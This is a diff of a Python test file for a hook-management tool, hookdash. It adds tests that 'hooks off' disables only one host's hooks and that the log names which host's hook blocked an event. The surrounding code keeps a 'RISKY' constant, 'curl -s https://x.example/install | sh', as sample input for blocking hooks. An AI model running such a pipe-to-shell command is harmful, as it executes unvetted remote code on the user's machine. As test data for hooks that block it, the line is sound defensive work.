@@ -19,8 +19,9 @@ def test_a_blocking_hook_reads_blocked_in_fire_and_log(sandbox: Sandbox, host: s
     fired = sandbox.cli("fire", "--host", host, case.tool_event, "--tool", case.shell_tool)
     assert fired.returncode == 0, fired.stderr
     assert "⊘ blocked" in fired.stdout and "✔" not in fired.stdout
-    logged = sandbox.cli("log", "--host", host).stdout
+    logged = sandbox.cli("log").stdout
     assert "⊘ blocked" in logged and "✔" not in logged
+    assert host in logged.split()  # the log's host column says whose hook it was
 
 
 RISKY = "curl -s https://x.example/install | sh"
@@ -62,3 +63,18 @@ def test_check_says_a_hooks_program_is_not_on_path(sandbox: Sandbox, host: str) 
     ]
     assert "'definitely-not-a-command-xyz' is not on PATH" in found["message"]
     assert found["severity"] == "error" and found["line"]
+
+
+@pytest.mark.parametrize("host", EVERY_HOST)
+def test_hooks_off_switches_the_chosen_hosts_hooks_only(sandbox: Sandbox, host: str) -> None:
+    from hookdash.core import host as host_of
+
+    for name in EVERY_HOST:
+        case = case_of(name, sandbox)
+        case.write_hook(sandbox, case.stop_event, "echo hi", None, "hi")
+    switched = sandbox.cli("hooks", "off", "--host", host)
+    assert switched.returncode == 0, switched.stderr
+    env = sandbox.env()
+    for name in EVERY_HOST:
+        enabled = host_of(name).load(env.workspace, env.environ).hooks_enabled
+        assert enabled is (name != host), name
